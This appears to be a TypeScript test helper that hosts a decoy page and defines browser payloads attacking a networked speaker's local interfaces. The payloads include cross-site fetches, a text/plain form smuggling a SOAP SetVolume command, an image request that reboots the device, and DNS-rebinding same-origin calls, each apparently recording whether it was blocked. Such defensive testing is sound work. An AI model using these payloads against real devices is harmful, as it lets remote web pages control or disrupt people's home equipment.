import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** A page of a stranger, at an address of its own. */
export interface AttackingSite {
  readonly url: string;
  close(): Promise<void>;
}

export function startAttackingSite(address: string): Promise<AttackingSite> {
  const server = createServer((_request, response) => {
    response.setHeader('Content-Type', 'text/html; charset=utf-8');
    response.end('<!doctype html><html lang="en"><title>Cats</title><body><p>Cats</p></body></html>');
  });
  return new Promise((resolve) => {
    server.listen(0, address, () => {
      const { port } = server.address() as AddressInfo;
      resolve({
        url: `http://${address}:${port}/`,
        close: () =>
          new Promise((done) => {
            server.close(() => done());
            server.closeAllConnections();
          }),
      });
    });
  });
}

const CONTROL = '/MediaRenderer/RenderingControl/Control';
const ACTION = 'urn:schemas-upnp-org:service:RenderingControl:1#SetVolume';
const LOUD =
  '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body>' +
  '<u:SetVolume xmlns:u="urn:schemas-upnp-org:service:RenderingControl:1"><InstanceID>0</InstanceID><Channel>Master</Channel>' +
  '<DesiredVolume>97</DesiredVolume></u:SetVolume></s:Body></s:Envelope>';

/** Runs as text inside a page; gives what the page could read, or how it failed. The DOM's types are not part of this project. */
const inPage = (work: string): string => `(async () => {
  const soon = () => new Promise((resolve) => setTimeout(resolve, 1500));
  const loaded = (element) => Promise.race([
    new Promise((resolve) => { element.onload = element.onerror = () => resolve(); }), soon()]);
  const textOf = (frame) => frame.contentDocument?.body.textContent ?? '';
  try { ${work} } catch (error) { return 'blocked: ' + error.name; }
})()`;

/** What pages of other sites try at the player or door of this address. Each is JavaScript for `page.evaluate`. */
export const crossSite = (at: string): Readonly<Record<string, string>> => ({
  'fetch, to read': inPage(`return await (await fetch('http://${at}:1400/status/zp')).text();`),
  'fetch without CORS, to read': inPage(
    `return await (await fetch('http://${at}:1400/status/zp', { mode: 'no-cors' })).text();`,
  ),
  'fetch with SOAPACTION': inPage(
    `return await (await fetch('http://${at}:1400${CONTROL}', { method: 'POST', body: ${JSON.stringify(LOUD)},
      headers: { 'Content-Type': 'text/xml', SOAPACTION: '"${ACTION}"' } })).text();`,
  ),
  'fetch without CORS, to act': inPage(
    `return await (await fetch('http://${at}:1400${CONTROL}', { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(LOUD)} })).text();`,
  ),
  'form of text/plain': inPage(`
    const frame = document.body.appendChild(document.createElement('iframe'));
    frame.name = 'sink';
    const form = document.body.appendChild(document.createElement('form'));
    Object.assign(form, { method: 'POST', enctype: 'text/plain', target: 'sink', action: 'http://${at}:1400${CONTROL}' });
    const field = form.appendChild(document.createElement('input'));
    const text = ${JSON.stringify(LOUD)};
    const cut = text.indexOf('=');
    Object.assign(field, { name: text.slice(0, cut), value: text.slice(cut + 1) });
    form.submit();
    await soon();
    return textOf(frame);`),
  iframe: inPage(`
    const frame = document.createElement('iframe');
    frame.src = 'http://${at}:1400/status/zp';
    document.body.appendChild(frame);
    await loaded(frame);
    return textOf(frame);`),
  script: inPage(`
    const script = document.createElement('script');
    script.src = 'http://${at}:1400/status/zp';
    document.body.appendChild(script);
    await loaded(script);
    return '';`),
  'a picture that reboots': inPage(`
    const picture = new Image();
    picture.referrerPolicy = 'no-referrer';
    picture.src = 'http://${at}:1400/reboot';
    await loaded(picture);
    return picture.width > 0 ? 'read: a picture' : '';`),
});

/** The same for the local API. */
export const crossSiteLocalApi = (at: string): Readonly<Record<string, string>> => ({
  'fetch of the local API': inPage(
    `return await (await fetch('https://${at}:1443/api/v1/players/local/info')).text();`,
  ),
  WebSocket: inPage(`
    const socket = new WebSocket('wss://${at}:1443/websocket/api', 'v1.api.smartspeaker.audio');
    const opened = new Promise((resolve) => { socket.onopen = () => resolve('open'); socket.onerror = () => resolve(''); });
    return await Promise.race([opened, soon()]);`),
});

/** A page whose name leads to a player now (DNS rebinding): it is of one origin with it, as the browser sees it. */
export const SAME_ORIGIN: Readonly<Record<string, string>> = {
  'read a page': inPage(`return await (await fetch('/status/zp')).text();`),
  'call an action': inPage(
    `return await (await fetch('${CONTROL}', { method: 'POST', body: ${JSON.stringify(LOUD)},
      headers: { 'Content-Type': 'text/xml', SOAPACTION: '"${ACTION}"' } })).text();`,
  ),
};
